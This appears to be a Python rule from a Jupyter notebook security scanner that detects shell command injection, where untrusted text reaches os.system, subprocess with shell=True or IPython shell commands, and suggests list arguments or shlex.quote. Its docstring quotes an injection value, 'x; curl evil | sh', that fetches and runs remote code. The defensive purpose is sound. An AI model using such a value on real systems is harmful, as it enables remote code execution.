r"""Find text from elsewhere in commands of a shell."""

from __future__ import annotations

import ast
from bisect import bisect_right
from typing import TYPE_CHECKING

from jupyter_mlsecops.findings import Confidence, Fix, Hit, Related, Safety, Severity
from jupyter_mlsecops.flows.taint import Taint, taint
from jupyter_mlsecops.rule import code_rule

if TYPE_CHECKING:
    from collections.abc import Iterator

    from jupyter_mlsecops.notebook.code import Call, Code
    from jupyter_mlsecops.notebook.shell.commands import Command

_SHELLS = frozenset({
    "os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput", "get_ipython().system", "get_ipython().getoutput",
    "asyncio.create_subprocess_shell", "IPython.utils.process.system",
})  # fmt: skip
_RUN = frozenset(f"subprocess.{name}" for name in ("run", "call", "check_call", "check_output", "Popen"))
_WORDS = frozenset(name.rpartition(".")[2] for name in _SHELLS | _RUN)
_FIX = Fix(
    title="Hand the arguments over as a list, without a shell, or quote them with shlex.quote", safety=Safety.MANUAL
)


@code_rule(
    category="execution", severity=Severity.MEDIUM, confidence=Confidence.MEDIUM, cwe=(78,), owasp=("LLM05",), atlas=("AML.T0050",),
    triggers=("!", "system", "subprocess", "popen", "getoutput", "%sx", "create_subprocess_shell"),
)  # fmt: skip
def tainted_shell(code: Code) -> Iterator[Hit]:
    r"""Text that somebody else decides becomes part of a shell command.

    ## What it sees

    `!cmd {value}`, `os.system`, `subprocess` with `shell=True` and the like, where a value came from a network reply, a file off the net,
    a model or `input()`. The author's own variables, and what `shlex.quote` quotes, are left alone.

    ## Why it matters

    A value such as `x; curl evil | sh` is a command of its own (CWE-78; OWASP LLM05; MITRE ATLAS AML.T0050).

    ## What to do

    `subprocess.run([...])` without a shell, or `shlex.quote`.

    ## Examples

    ```python bad
    import os
    import requests

    name = requests.get("https://api.example.org/latest").json()["name"]
    os.system(f"tar xf {name}")
    ```

    ```python bad
    import requests

    name = requests.get("https://api.example.org/latest").text
    !tar xf {name}
    ```

    ```python good
    import subprocess
    import requests

    name = requests.get("https://api.example.org/latest").text
    subprocess.run(["tar", "xf", name], check=True)
    ```

    ## References

    - <https://docs.python.org/3/library/subprocess.html#security-considerations>
    """
    for call in code.calls_of(_WORDS):
        argument = _command(call)
        if argument is not None and not isinstance(argument, ast.Constant) and (found := taint(code, argument)):
            yield _hit(code, call.start, call.end, found)
    shells = [(text.start, text.end) for text in code.layout.shells if text.dialect == "ipython"]
    for command in code.commands if shells else ():
        number = bisect_right(shells, (command.start, len(code.text) + 1)) - 1
        if number >= 0 and command.start < shells[number][1]:
            yield from _interpolated(code, command)


def _command(call: Call) -> ast.expr | None:
    """The text that a call hands to a shell."""
    names = set(call.names)
    if names & _SHELLS:
        return call.argument("cmd", 0) or call.argument("command", 0)
    if names & _RUN and call.constant("shell") is True:
        return call.argument("args", 0)
    return None


def _interpolated(code: Code, command: Command) -> Iterator[Hit]:
    for word in command.words:
        for segment in word.segments:
            if segment.kind in ("literal", "substitution"):
                continue
            at = code.position(command.start)
            expression = code.program.expression(segment.text, at)
            if expression is not None and (found := taint(code, expression)):
                yield _hit(code, segment.start, segment.end, found)
                return


def _hit(code: Code, start: int, end: int, found: Taint) -> Hit:
    causes = (Related(place=found.place, message="the text comes from here"),) if found.place else ()
    message = f"{found.source.value} decides a part of this shell command"
    return Hit(at=code.place(start, end), message=message, fixes=(_FIX,), causes=causes, subject=found.url)
